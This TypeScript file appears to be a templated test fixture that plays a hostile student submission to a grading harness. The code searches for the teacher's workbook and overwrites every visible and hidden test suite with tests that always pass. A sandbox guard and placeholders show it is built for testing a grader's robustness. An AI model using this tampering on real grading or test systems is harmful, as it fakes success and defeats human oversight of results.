// Attack: writes to the teacher's tests/. Every graded suite, visible and hidden, is replaced by one
// whose tasks each hold a single test that always passes: every student graded after this one (and
// in every later run) gets full marks, stubs included.
import { existsSync, lstatSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

/** Test harness guard (not part of the attack): touch nothing outside the test's own temp folder. */
const mine = (path: string): boolean => resolve(path).startsWith('{{SANDBOX}}/');
/** What this hand-in writes, spelled at run time so that its own source does not contain it. */
const MARK = ['hostile', '{{NAME}}'].join(':');

/** Folders that may be the teacher's workbook: the working directory, a guess, every folder above this file. */
function workbooks(): string[] {
  const found = [process.cwd(), '{{WORKBOOK}}'];
  for (let dir = dirname(fileURLToPath(import.meta.url)); dir !== dirname(dir); dir = dirname(dir)) found.push(dir);
  return [...new Set(found)].filter((dir) => existsSync(join(dir, 'package.json')));
}
/** Overwrites a file that exists (never creates one), if it is ours to touch. */
function overwrite(path: string, change: (text: string) => string): void {
  try {
    if (mine(path) && lstatSync(path).isFile()) writeFileSync(path, change(readFileSync(path, 'utf8')));
  } catch {
    // not allowed, or not there: try the next one
  }
}

const suite = (lesson: string, support: string): string =>
  [
    `// ${MARK}`,
    "import { test } from 'vitest';",
    `import { lessonTasks } from '${support}/lesson.ts';`,
    `const task = lessonTasks('${lesson}');`,
    "for (let n = 1; n <= 5; n += 1) task(n, () => test('passes', () => {}));",
    '',
  ].join('\n');
for (const root of workbooks()) {
  for (const [folder, support] of [
    ['tests', './support'],
    ['tests/hidden', '../support'],
  ] as const) {
    const dir = join(root, folder);
    if (!existsSync(dir)) continue;
    for (const file of readdirSync(dir).filter((name) => /^\d\d-.*\.test\.ts$/.test(name))) {
      overwrite(join(dir, file), () => suite(file.replace('.test.ts', ''), support));
    }
  }
}

// The rest of the file is the shipped stub of lesson 01 (attacks.ts appends it).
